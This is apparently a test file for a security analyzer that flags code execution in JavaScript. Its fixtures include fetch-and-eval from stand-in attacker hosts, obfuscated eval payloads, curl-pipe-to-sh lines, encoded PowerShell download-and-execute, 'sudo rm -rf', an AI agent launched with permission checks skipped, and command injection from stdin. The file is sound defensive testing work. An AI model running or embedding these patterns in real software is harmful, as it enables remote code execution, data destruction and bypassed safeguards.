import { describe, expect, it } from 'vitest';
import { recordEmbeds } from '../../support/behaviours.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Code execution from JavaScript/TypeScript as an attacker who read our rule docs writes it: every
 * alias of eval/Function/child_process, string-built module and member names, wrappers, and code that
 * arrives downloaded or decoded. Shell lines are checked as rebuilt for the shell analyzer.
 */

const shell = recordEmbeds('shell');

const js = (code: string) => factsOf('javascript', code);

describe('JavaScript: remote code execution (execute with downloaded code)', () => {
  it.each([
    ['fetch then eval', `const r = await fetch('https://cdn.evil.test/p.js'); eval(await r.text());`],
    [
      'fetch promise chain into new Function',
      `fetch('https://cdn.evil.test/p.js').then(r => r.text()).then(t => new Function(t)());`,
    ],
    [
      'https.get with data events, eval on end',
      `const https = require('node:https');
https.get('https://cdn.evil.test/p.js', (res) => { let body = ''; res.on('data', (c) => body += c); res.on('end', () => eval(body)); });`,
    ],
    [
      'axios response data into vm',
      `import axios from 'axios'; import vm from 'node:vm';
const { data } = await axios.get('https://cdn.evil.test/p.js'); vm.runInNewContext(data);`,
    ],
    [
      'indirect eval of got body',
      `const got = require('got'); const code = await got('https://cdn.evil.test/p.js').text(); (0, eval)(code);`,
    ],
    [
      'globalThis computed eval',
      `const src = await (await fetch('https://cdn.evil.test/p.js')).text(); globalThis['ev' + 'al'](src);`,
    ],
    [
      'Function constructor via prototype',
      `const s = await (await fetch('https://cdn.evil.test/p.js')).text(); const F = (function(){}).constructor; F(s)();`,
    ],
    [
      'Module._compile',
      `const Module = require('module'); const m = new Module(); fetch('https://cdn.evil.test/p.js').then(r => r.text()).then(t => m._compile(t, 'x.js'));`,
    ],
    [
      'execSync curl output into eval',
      `eval(require('child_process').execSync('curl -s https://cdn.evil.test/p.js').toString());`,
    ],
    ['dynamic import of a URL (Deno/browsers)', `await import('https://cdn.evil.test/mod.js');`],
  ])('%s', async (_name, code) => {
    const r = await js(code);
    const ex = ofKind(r, 'execute').filter((b) => b.code.taints.includes('download'));
    expect(ex.length).toBeGreaterThan(0);
    expect(ex[0]!.endpoint?.host).toBe('cdn.evil.test');
    expect(r.units[0]!.parse).not.toBe('gave-up');
  });

  it('a downloaded file written then run is execution of the download', async () => {
    const r = await js(`const fs = require('fs'); const { execSync } = require('child_process');
const res = await fetch('https://cdn.evil.test/install.sh'); fs.writeFileSync('/tmp/i.sh', await res.text());
execSync('bash /tmp/i.sh');`);
    const ex = ofKind(r, 'execute');
    expect(
      ex.some(
        (b) => b.code.taints.includes('download') && b.code.from === 'https://cdn.evil.test/install.sh',
      ),
    ).toBe(true);
  });
});

describe('JavaScript: a downloaded file run, or handed to a program as data', () => {
  const download = `const fs = require('fs'); const cp = require('child_process');
const res = await fetch('https://cdn.example.test/get'); const tmp = \`/tmp/job-\${process.pid}.bin\`;
fs.writeFileSync(tmp, Buffer.from(await res.arrayBuffer()));`;
  const runsDownload = async (code: string) =>
    ofKind(await js(`${download}\n${code}`), 'execute').some((b) => b.code.taints.includes('download'));
  it.each([
    ['as the program', 'cp.spawnSync(tmp, ["--quiet"]);'],
    ['as the script of an interpreter', 'cp.spawn("bash", ["-e", tmp]);'],
    ['after a prefix, in a shell line', 'cp.execSync(`chmod +x ${tmp} && sudo ${tmp}`);'],
    ['as code after -c', 'cp.spawn("sh", ["-c", tmp]);'],
  ])('runs it %s', async (_name, code) => {
    expect(await runsDownload(code)).toBe(true);
  });
  it.each([
    ['an input file of a converter', 'cp.spawn("ffmpeg", ["-y", "-i", tmp, "-c:a", "libopus", "out.ogg"]);'],
    ['an archive to unpack', 'cp.execSync(`tar -xzf ${tmp} -C /tmp/unpacked`);'],
    ['an option value', 'cp.spawnSync("sox", [`--input=${tmp}`, "out.wav"]);'],
  ])('does not run it as %s', async (_name, code) => {
    expect(await runsDownload(code)).toBe(false);
  });
});

describe('JavaScript: obfuscated execution (execute with decoded code)', () => {
  it.each([
    [
      'Function of base64 Buffer',
      `new Function(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())();`,
      'console.log(1)',
    ],
    ['eval of atob', `eval(atob('Y29uc29sZS5sb2coMik='));`, 'console.log(2)'],
    [
      'eval of char codes',
      `eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,51,41));`,
      'console.log(3)',
    ],
    [
      'xor-ed char codes via map',
      `const k = 7; const c = [100,104,105,116,104,107,98,41,107,104,96,47,52,46]; eval(String.fromCharCode(...c.map(x => x ^ k)));`,
      'console.log(3)',
    ],
    ['reversed string', `eval(')4(gol.elosnoc'.split('').reverse().join(''));`, 'console.log(4)'],
    [
      'hex escapes',
      `eval('\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65\\x2e\\x6c\\x6f\\x67\\x28\\x35\\x29');`,
      'console.log(5)',
    ],
    [
      'hex Buffer',
      `require('vm').runInThisContext(Buffer.from('636f6e736f6c652e6c6f672836290a', 'hex').toString('utf8'));`,
      'console.log(6)',
    ],
    ['replace-stripped junk', `eval('cXonXsolXe.lXog(7)'.replace(/X/g, ''));`, 'console.log(7)'],
    [
      'decodeURIComponent',
      `eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%38%29'));`,
      'console.log(8)',
    ],
    [
      'data: URL import',
      `await import('data:text/javascript;base64,Y29uc29sZS5sb2coOSk=');`,
      'console.log(9)',
    ],
  ])('%s', async (_name, code, decoded) => {
    const r = await js(code);
    const ex = ofKind(r, 'execute');
    expect(ex.length).toBeGreaterThan(0);
    expect(ex.some((b) => b.code.text.includes(decoded))).toBe(true);
    // The decoded code is analysed as nested JavaScript.
    expect(r.units.some((u) => u.origin === 'embedded' && u.lang === 'javascript')).toBe(true);
  });

  it('decoded code is analysed: a loader hidden in base64 shows its shell line', async () => {
    const payload = Buffer.from(
      "require('child_process').execSync('curl -s https://npm-cdn.evil.test/i | sh')",
    ).toString('base64');
    const r = await js(`const opts = '${payload}';\nnew Function(Buffer.from(opts, 'base64').toString())();`);
    expect(ofKind(r, 'decode')[0]!.decoded).toContain('execSync');
    expect(shell).toContain('curl -s https://npm-cdn.evil.test/i | sh');
  });
});

describe('JavaScript: shell commands rebuilt for the shell analyzer', () => {
  it.each([
    [
      'destructured exec',
      `const { exec } = require('child_process'); exec('curl -fsSL https://x.evil.test/a | bash');`,
      'curl -fsSL https://x.evil.test/a | bash',
    ],
    [
      'renamed execSync',
      `const { execSync: run } = require('node:child_process'); run(\`wget -qO- https://x.evil.test/b | sh\`);`,
      'wget -qO- https://x.evil.test/b | sh',
    ],
    [
      'require alias and built module name',
      `const r = require; const cp = r('child' + '_process'); cp['ex' + 'ecSync']('curl https://x.evil.test/c | sh');`,
      'curl https://x.evil.test/c | sh',
    ],
    [
      'namespace import spawn with -c',
      `import * as cp from 'node:child_process'; cp.spawn('bash', ['-c', 'curl https://x.evil.test/d | sh']);`,
      "bash -c 'curl https://x.evil.test/d | sh'",
    ],
    [
      'execFile argv',
      `require('child_process').execFile('/bin/sh', ['-c', 'wget -O- https://x.evil.test/e | sh']);`,
      "/bin/sh -c 'wget -O- https://x.evil.test/e | sh'",
    ],
    [
      'spawn with shell: true',
      `require('child_process').spawn('curl https://x.evil.test/f', ['|', 'sh'], { shell: true });`,
      'curl https://x.evil.test/f | sh',
    ],
    [
      'wrapper function inlined',
      `const cp = require('child_process'); function run(cmd) { return cp.execSync(cmd, { stdio: 'inherit' }); }
run('npm install -g evil-pkg@latest');`,
      'npm install -g evil-pkg@latest',
    ],
    [
      'promisified exec',
      `const util = require('util'); const ex = util.promisify(require('child_process').exec); await ex('claude --dangerously-skip-permissions -p hi');`,
      'claude --dangerously-skip-permissions -p hi',
    ],
    [
      'joined array command',
      `require('child_process').execSync(['curl', 'https://x.evil.test/g', '|', 'sh'].join(' '));`,
      'curl https://x.evil.test/g | sh',
    ],
    [
      'zx template',
      `import { $ } from 'zx'; const h = 'x.evil.test'; await $\`curl https://\${h}/h | sh\`;`,
      'curl https://x.evil.test/h | sh',
    ],
    [
      'Bun.spawn argv',
      `Bun.spawn(['sh', '-c', 'curl https://x.evil.test/i | sh']);`,
      "sh -c 'curl https://x.evil.test/i | sh'",
    ],
    [
      'class method wrapper',
      `class Runner { go(c) { require('child_process').exec(c); } }\nnew Runner().go('sudo rm -rf /opt/x');`,
      'sudo rm -rf /opt/x',
    ],
  ])('%s', async (_name, code, line) => {
    shell.length = 0;
    await js(code);
    expect(shell).toContain(line);
  });

  it('an encoded PowerShell command built in JavaScript is decoded by the PowerShell analyzer', async () => {
    const r = await js(
      `require('child_process').execSync('powershell -enc ' + Buffer.from('iex (iwr https://x.evil.test/c)', 'utf16le').toString('base64'));`,
    );
    expect(ofKind(r, 'execute').some((b) => b.endpoint?.host === 'x.evil.test')).toBe(true);
  });

  it('a prompt passed as an argument is data, not code; spliced into a shell line it is command injection', async () => {
    const asArg = await js(
      `let input = ''; process.stdin.on('data', (d) => { input += d; require('child_process').spawn('node', ['log.js', input]); });`,
    );
    expect(ofKind(asArg, 'execute')).toEqual([]);
    const spliced = await js(
      `process.stdin.on('data', (d) => require('child_process').execSync('echo ' + d + ' >> log'));`,
    );
    expect(ofKind(spliced, 'execute')[0]!.code.taints).toContain('conversation');
  });
});
